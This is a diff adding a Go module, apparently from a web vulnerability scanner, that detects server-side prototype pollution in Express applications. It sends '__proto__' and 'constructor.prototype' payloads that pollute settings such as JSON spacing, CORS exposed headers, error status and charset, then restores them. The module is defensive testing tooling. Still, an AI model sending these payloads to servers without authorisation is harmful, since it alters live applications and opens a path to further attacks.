@@ -0,0 +1,188 @@
+package prototype
+
+import (
+    "encoding/base64"
+    "encoding/binary"
+    "encoding/json"
+    regexp "github.com/wasilibs/go-re2"
+    "github.com/yhy0/Jie/pkg/protocols/httpx"
+    "sort"
+    "strings"
+    "unicode/utf16"
+)
+
+/**
+   @author yhy
+   @since 2024/7/2
+   @desc 污染原型链的方式和确认污染的 gadget，gadget 只修改响应格式、状态码这类属性，不会导致服务崩溃
+**/
+
+// vector 污染原型链的方式
+type vector struct {
+    name string
+    wrap func(props map[string]interface{}) map[string]interface{}
+}
+
+var vectors = []vector{
+    {"__proto__", func(props map[string]interface{}) map[string]interface{} {
+        return map[string]interface{}{"__proto__": props}
+    }},
+    {"constructor.prototype", func(props map[string]interface{}) map[string]interface{} {
+        return map[string]interface{}{"constructor": map[string]interface{}{"prototype": props}}
+    }},
+}
+
+// gadget 污染后可以观察到的变化
+type gadget struct {
+    name        string
+    description string
+    props       func(marker string) map[string]interface{} // 污染的属性
+    reset       map[string]interface{}                     // 确认后恢复的属性
+    baseline    func(s *sender, marker string) *httpx.Response
+    probe       func(s *sender, marker string) *httpx.Response
+    ready       func(res *httpx.Response, marker string) bool // 污染前的响应满足条件才检测
+    polluted    func(res *httpx.Response, marker string) bool
+}
+
+const (
+    // 不常见的缩进和状态码
+    jsonSpaces     = 7
+    pollutedStatus = 555
+)
+
+var indentRegex = regexp.MustCompile(`\n {7}\S`)
+
+// 按照影响从小到大排列
+var gadgets = []gadget{
+    {
+        name:        "json spaces",
+        description: "Express res.json() indents the JSON response with the polluted \"json spaces\" setting",
+        props: func(string) map[string]interface{} {
+            return map[string]interface{}{"json spaces": jsonSpaces}
+        },
+        reset:    map[string]interface{}{"json spaces": 0},
+        baseline: original,
+        probe:    original,
+        ready: func(res *httpx.Response, _ string) bool {
+            return isJSON(res.Body) && !indentRegex.MatchString(res.Body)
+        },
+        polluted: func(res *httpx.Response, _ string) bool {
+            return isJSON(res.Body) && indentRegex.MatchString(res.Body)
+        },
+    },
+    {
+        name:        "exposed headers",
+        description: "the cors middleware returns the polluted \"exposedHeaders\" in Access-Control-Expose-Headers",
+        props: func(marker string) map[string]interface{} {
+            return map[string]interface{}{"exposedHeaders": []string{marker}}
+        },
+        reset:    map[string]interface{}{"exposedHeaders": nil},
+        baseline: withOrigin,
+        probe:    withOrigin,
+        ready: func(res *httpx.Response, marker string) bool {
+            return !strings.Contains(strings.ToLower(res.Header.Get("Access-Control-Expose-Headers")), marker)
+        },
+        polluted: func(res *httpx.Response, marker string) bool {
+            return strings.Contains(strings.ToLower(res.Header.Get("Access-Control-Expose-Headers")), marker)
+        },
+    },
+    {
+        name:        "status code override",
+        description: "body-parser responds to malformed JSON with the polluted \"status\"",
+        props: func(string) map[string]interface{} {
+            return map[string]interface{}{"status": pollutedStatus}
+        },
+        reset:    map[string]interface{}{"status": 0},
+        baseline: malformed,
+        probe:    malformed,
+        ready: func(res *httpx.Response, _ string) bool {
+            return res.StatusCode >= 400 && res.StatusCode != pollutedStatus
+        },
+        polluted: func(res *httpx.Response, _ string) bool {
+            return res.StatusCode == pollutedStatus
+        },
+    },
+    {
+        name:        "charset override",
+        description: "body-parser decodes a request without Content-Type as JSON in the polluted utf-7 charset",
+        props: func(string) map[string]interface{} {
+            return map[string]interface{}{"content-type": "application/json; charset=utf-7"}
+        },
+        reset: map[string]interface{}{"content-type": ""},
+        // 污染前正常发送，确认 utf-7 编码的值会原样出现在响应中
+        baseline: func(s *sender, marker string) *httpx.Response {
+            body := withString(s.in.RequestBody, utf7(marker))
+            if body == "" {
+                return nil
+            }
+            return s.send(body, nil)
+        },
+        probe: func(s *sender, marker string) *httpx.Response {
+            body := withString(s.in.RequestBody, utf7(marker))
+            if body == "" {
+                return nil
+            }
+            return s.raw(body)
+        },
+        ready: func(res *httpx.Response, marker string) bool {
+            return strings.Contains(res.Body, utf7(marker)) && !strings.Contains(res.Body, marker)
+        },
+        polluted: func(res *httpx.Response, marker string) bool {
+            return strings.Contains(res.Body, marker)
+        },
+    },
+}
+
+func original(s *sender, _ string) *httpx.Response {
+    return s.send(s.in.RequestBody, nil)
+}
+
+func withOrigin(s *sender, _ string) *httpx.Response {
+    if s.in.ParseUrl == nil {
+        return nil
+    }
+    return s.send(s.in.RequestBody, map[string]string{"Origin": s.in.ParseUrl.Scheme + "://" + s.in.ParseUrl.Host})
+}
+
+// malformed 不完整的 JSON，触发 body-parser 的解析错误
+func malformed(s *sender, marker string) *httpx.Response {
+    return s.send(`{"`+marker, nil)
+}
+
+// withString 将 JSON 中第一个字符串类型的值替换为 value，没有时返回空
+func withString(body, value string) string {
+    var obj map[string]interface{}
+    if err := json.Unmarshal([]byte(body), &obj); err != nil {
+        return ""
+    }
+    keys := make([]string, 0, len(obj))
+    for k := range obj {
+        keys = append(keys, k)
+    }
+    sort.Strings(keys)
+    for _, k := range keys {
+        if _, ok := obj[k].(string); ok {
+            obj[k] = value
+            data, err := json.Marshal(obj)
+            if err != nil {
+                return ""
+            }
+            return string(data)
+        }
+    }
+    return ""
+}
+
+// utf7 使用 UTF-7 的 base64 形式编码，utf-8 解码时保持原样
+func utf7(s string) string {
+    var buf []byte
+    for _, r := range utf16.Encode([]rune(s)) {
+        buf = binary.BigEndian.AppendUint16(buf, r)
+    }
+    return "+" + base64.RawStdEncoding.EncodeToString(buf) + "-"
+}
+
+func isJSON(body string) bool {
+    body = strings.TrimSpace(body)
+    return (strings.HasPrefix(body, "{") || strings.HasPrefix(body, "[")) && json.Valid([]byte(body))
+}